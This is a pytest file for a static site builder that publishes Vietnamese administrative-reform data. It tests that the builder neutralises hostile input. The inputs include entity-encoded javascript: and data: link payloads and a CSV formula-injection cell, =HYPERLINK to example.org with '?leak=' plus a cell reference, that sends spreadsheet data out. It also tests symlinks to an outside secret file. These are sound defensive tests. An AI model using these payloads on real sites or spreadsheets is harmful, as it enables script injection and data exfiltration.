"""Trust: links decided on the URL the browser follows, CSV cells a spreadsheet never runs, nothing read from
outside the project through a link in templates/ or content/, and Markdown too deep to convert refused."""
from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from reformdash.opendata import formats
from reformdash.pipeline import Project, build
from reformdash.problems import BuildFailed
from reformdash.output.render import markdown_to_html

ROOT = Path(__file__).resolve().parent.parent


# -- links -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("markdown, expected", [
    ("[a](javascript&colon;alert(1))", "<p><a>a</a></p>"),
    ("[a](javascript&#58;alert(1))", "<p><a>a</a></p>"),
    ("[a](javascript&#x3A;alert(1))", "<p><a>a</a></p>"),
    ("[a](JaVaScRiPt&#X3a;alert(1))", "<p><a>a</a></p>"),
    ("[a](javascript&#0000058;alert(1))", "<p><a>a</a></p>"),
    ("[a](java&#x09;script&colon;alert(1))", "<p><a>a</a></p>"),  # the URL parser drops the tab
    ("[a](&#x20;javascript&colon;alert(1))", "<p><a>a</a></p>"),  # and leading spaces
    ("[a](vbscript&colon;msgbox(1))", "<p><a>a</a></p>"),
    ("[a](data&colon;text/html,x)", "<p><a>a</a></p>"),
    ("[a][r]\n\n[r]: javascript&colon;alert(1)", "<p><a>a</a></p>"),
    ("![ảnh](javascript&colon;alert(1))", '<p><img alt="ảnh"></p>'),
    ("![ảnh][r]\n\n[r]: data&#58;image/svg+xml,x", '<p><img alt="ảnh"></p>'),
])
def test_entity_encoded_schemes_lose_their_target(markdown: str, expected: str) -> None:
    assert markdown_to_html(markdown) == expected


def test_an_entity_encoded_scheme_in_a_footnote_loses_its_target() -> None:
    got = markdown_to_html("x[^1]\n\n[^1]: [b](javascript&#58;alert(1))")
    assert '<p><a>b</a>&#160;<a class="footnote-backref" href="#fnref:1"' in got
    assert "javascript" not in got


def test_only_web_mail_relative_and_fragment_links_are_kept() -> None:
    kept = {
        "[a](https://dichvucong.gov.vn/?a=1&amp;b=2)": '<p><a href="https://dichvucong.gov.vn/?a=1&amp;b=2">a</a></p>',
        "[a](http://example.org/x)": '<p><a href="http://example.org/x">a</a></p>',
        "[a](mailto&colon;vanthu@example.gov.vn)": '<p><a href="mailto&colon;vanthu@example.gov.vn">a</a></p>',
        "[a](../ky-bao-cao/index.html#muc:2)": '<p><a href="../ky-bao-cao/index.html#muc:2">a</a></p>',
        "[a](#fn:1)": '<p><a href="#fn:1">a</a></p>',
        "[a](/chi-tieu/)": '<p><a href="/chi-tieu/">a</a></p>',
        "<https://example.org/>": '<p><a href="https://example.org/">https://example.org/</a></p>',
        "[a](javascript&colon;alert(1))": "<p><a>a</a></p>",
        "[a](ftp&colon;//example.org/)": "<p><a>a</a></p>",
    }
    assert {markdown: markdown_to_html(markdown) for markdown in kept} == kept
    # Python-Markdown writes a mail autolink as character references; decoded, it is a mailto: link
    assert markdown_to_html("<vanthu@example.gov.vn>").startswith('<p><a href="&#109;&#97;&#105;&#108;&#116;&#111;&#58;')


# -- CSV ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell, expected", [
    ('=HYPERLINK("http://example.org","bấm")', '\'=HYPERLINK("http://example.org","bấm")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- Đang triển khai", "'- Đang triển khai"),
    ("-5", "-5"),  # numbers are left alone, negative ones too
    ("-0.5", "-0.5"),
    ("-1.076,5", "-1.076,5"),
    ("99,99 %", "99,99 %"),
    ("1076", "1076"),
    ("Đã ban hành = 100 %", "Đã ban hành = 100 %"),
    ("", ""),
    (None, None),
])
def test_text_cells_that_would_run_as_formulas_get_an_apostrophe(cell, expected) -> None:
    assert formats.spreadsheet_text(cell) == expected


def test_csv_lines_neutralise_formulas_and_keep_numbers() -> None:
    got = formats.csv_lines([["stnmt", "=1+1", "-5", None, "@x", "a\tb"]])
    assert got == b"stnmt,'=1+1,-5,,'@x,a\tb\r\n"


def test_the_data_package_says_how_formulas_are_neutralised() -> None:
    from reformdash.opendata.dataset import datapackage
    from reformdash.pipeline import check

    description = datapackage(check(Project.at(ROOT)).catalogue, [2023])["description"]
    assert ("In the CSV files a text that begins with =, +, -, @, a tab or a carriage return (and is not a number) "
            "starts with an apostrophe") in description


# -- a hostile site: links and notes -----------------------------------------------------------------------------
NOTE = '=HYPERLINK(\\"http://example.org/?leak=\\"&A1,\\"bấm\\")'
LINKS = ["[một](javascript&colon;alert(1))", "[hai](javascript&#58;alert(2))", "[ba](javascript&#x3A;alert(3))",
         "[bốn][r]", "x[^1]", "![năm](javascript&colon;alert(5))", "[r]: javascript&colon;alert(4)",
         "[^1]: [sáu](javascript&#58;alert(6))"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    from conftest import make_project

    root = make_project(tmp_path_factory.mktemp("hostile-links") / "p", with_reports=True)
    report = root / "data" / "stnmt" / "2023-q1.yaml"
    text = report.read_text(encoding="utf-8")
    assert 'note: "Đang triển khai thực hiện kế hoạch"' in text
    report.write_text(text.replace('note: "Đang triển khai thực hiện kế hoạch"', f'note: "{NOTE}"'), encoding="utf-8")
    narrative = root / "content" / "stnmt" / "2023-q1.md"
    narrative.write_text(narrative.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(LINKS) + "\n", encoding="utf-8")
    about = root / "content" / "gioi-thieu.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(LINKS) + "\n", encoding="utf-8")
    build(Project.at(root))
    return root / "site"


def test_no_link_or_image_of_the_site_leads_to_a_script(hostile_site: Path) -> None:
    pages = {p: p.read_text(encoding="utf-8") for p in hostile_site.rglob("*.html")}
    targets = [html.unescape(t) for text in pages.values() for t in re.findall(r'(?:href|src)="([^"]*)"', text)]
    assert targets and not [t for t in targets if re.match(r"\s*(javascript|data|vbscript):", t, re.IGNORECASE)]
    report = pages[hostile_site / "stnmt" / "2023-q1" / "index.html"]
    about = pages[hostile_site / "gioi-thieu" / "index.html"]
    for page in (report, about):
        assert "<a>một</a>" in page and "<a>hai</a>" in page and "<a>ba</a>" in page and "<a>bốn</a>" in page
        assert "<a>sáu</a>" in page and '<img alt="năm">' in page


def test_a_note_that_is_a_formula_is_text_in_every_csv(hostile_site: Path) -> None:
    written = '"\'=HYPERLINK(""http://example.org/?leak=""&A1,""bấm"")"'
    for path in ("du-lieu/gia-tri-2023.csv", "stnmt/2023-q1/so-lieu.csv", "stnmt/so-lieu.csv", "ky-bao-cao/2023-q1/so-lieu.csv"):
        text = (hostile_site / path).read_text(encoding="utf-8-sig")
        assert written in text, path
        assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    # the JSON keeps the note as the department wrote it
    assert '"note":"=HYPERLINK(\\"http://example.org/?leak=\\"&A1,\\"bấm\\")"' in (
        hostile_site / "stnmt" / "2023-q1" / "so-lieu.json").read_text(encoding="utf-8")


# -- links leaving the project, content that cannot be read ------------------------------------------------------
def site_files(site: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in site.rglob("*") if p.is_file()}


def test_links_out_of_the_project_in_templates_and_content_are_errors(project_factory, tmp_path) -> None:
    root = project_factory()
    build(Project.at(root))
    before = site_files(root / "site")
    secret = tmp_path / "secret.txt"
    secret.write_text("BÍ MẬT: mật khẩu 1234\n", encoding="utf-8")
    (root / "content" / "gioi-thieu.md").symlink_to(secret)
    about = root / "templates" / "about.html"
    about.unlink()
    about.symlink_to(secret)
    with pytest.raises(BuildFailed) as failure:
        build(Project.at(root))
    assert [p.format() for p in failure.value.problems] == [
        f"content/gioi-thieu.md: error E109: the file is a link to {secret.resolve()}, outside the project\n"
        "    hint: copy the file into the project instead of linking to it: nothing outside the project is read",
        f"templates/about.html: error E412: 'templates/about.html' is a link to a file outside the project "
        f"({secret.resolve()}); it would be read as a template and published\n"
        "    hint: copy the file into templates/ instead of linking it",
    ]
    assert site_files(root / "site") == before
    # a link that stays inside the project is read as the file it links to
    about.unlink()
    about.write_bytes((ROOT / "templates" / "about.html").read_bytes())
    (root / "content" / "gioi-thieu.md").unlink()
    (root / "content" / "notes").mkdir()
    (root / "content" / "notes" / "about.md").write_text("Trang giới thiệu dùng chung\n", encoding="utf-8")
    (root / "content" / "gioi-thieu.md").symlink_to(root / "content" / "notes" / "about.md")
    build(Project.at(root))
    assert "Trang giới thiệu dùng chung" in (root / "site" / "gioi-thieu" / "index.html").read_text(encoding="utf-8")


def test_a_templates_folder_linked_from_outside_is_an_error(project_factory, tmp_path) -> None:
    from reformdash.output.render import make_environment, template_problems

    root = project_factory()
    outside = tmp_path / "templates-elsewhere"
    (root / "templates").rename(outside)
    (root / "templates").symlink_to(outside)
    problems = template_problems(root / "templates", root)
    assert problems[0].format() == (
        f"templates: error E412: 'templates' is a link to a file outside the project ({outside}); "
        "it would be read as a template and published\n    hint: copy the file into templates/ instead of linking it")
    assert len(problems) == 1 + len(list(outside.rglob("*")))  # and every file read through it
    with pytest.raises(BuildFailed):
        make_environment(root / "templates")


def test_a_content_page_is_read_as_safely_as_a_narrative(project_factory) -> None:
    root = project_factory()
    (root / "content" / "gioi-thieu.md").mkdir()
    (root / "content" / "gioi-thieu.en.md").write_bytes("Giới thiệu".encode("utf-16"))
    os.mkfifo(root / "content" / "gioi-thieu.fr.md")  # no French pages: never looked at
    with pytest.raises(BuildFailed) as failure:
        build(Project.at(root))
    assert [p.format() for p in failure.value.problems] == [
        "content/gioi-thieu.en.md:1:1: error E103: the file is not valid UTF-8 text\n"
        "    hint: the file is UTF-16; save it as UTF-8",
        "content/gioi-thieu.md: error E107: this is a folder, not a file\n"
        "    hint: a file is expected here; rename or move the folder 'gioi-thieu.md'",
    ]
    (root / "content" / "gioi-thieu.md").rmdir()
    (root / "content" / "gioi-thieu.en.md").unlink()
    os.mkfifo(root / "content" / "gioi-thieu.md")  # reading it would wait for ever
    with (root / "content" / "gioi-thieu.en.md").open("w", encoding="utf-8") as big:
        big.write(("Giới thiệu cải cách hành chính. " * 32 + "\n") * 1100)
    with pytest.raises(BuildFailed) as failure:
        build(Project.at(root))
    assert [p.format() for p in failure.value.problems] == [
        "content/gioi-thieu.en.md:1:1: error E111: the file is 1.4 MB, more than the 1 MB a content page may have\n"
        "    hint: a content page is a few pages of text; check that this is the right file, or shorten it",
        "content/gioi-thieu.md: error E108: this is a named pipe (FIFO), not a regular file\n"
        "    hint: replace it with the file itself: only regular files are read",
    ]


# -- Markdown nested too deep ------------------------------------------------------------------------------------
def nested_list(levels: int) -> str:
    """A list nested `levels` deep, bullets and numbers in turn: Python-Markdown recurses on each level."""
    return "".join("    " * i + ("1. " if i % 2 else "- ") + "mục\n\n" for i in range(levels))


def test_markdown_nested_too_deep_is_an_error_not_a_traceback(project_factory) -> None:
    root = project_factory(with_reports=True)
    (root / "content" / "gioi-thieu.md").write_text("# Giới thiệu\n\n" + nested_list(300), encoding="utf-8")
    (root / "content" / "stnmt" / "2023-q1.md").write_text(nested_list(500), encoding="utf-8")
    run = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--root", str(root)],
                         capture_output=True, text=True, env={**os.environ}, timeout=300)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    hint = "    hint: nest fewer levels: a page shows a few levels of a list at most"
    lines = run.stderr.splitlines()  # the errors (content/ sorts first), the data's warnings, the count
    assert lines[:4] == [
        "content/gioi-thieu.md:83:1: error E132: lists, quotes or indents nested more than 40 levels deep", hint,
        "content/stnmt/2023-q1.md:81:1: error E132: lists, quotes or indents nested more than 40 levels deep", hint,
    ]
    assert lines[-2:] == ["2 error(s), 31 warning(s)", "nothing was written; the previous site is unchanged"]
    assert not (root / "site").exists()
    assert markdown_to_html(nested_list(3)).count("<li>") == 3  # a few levels are converted

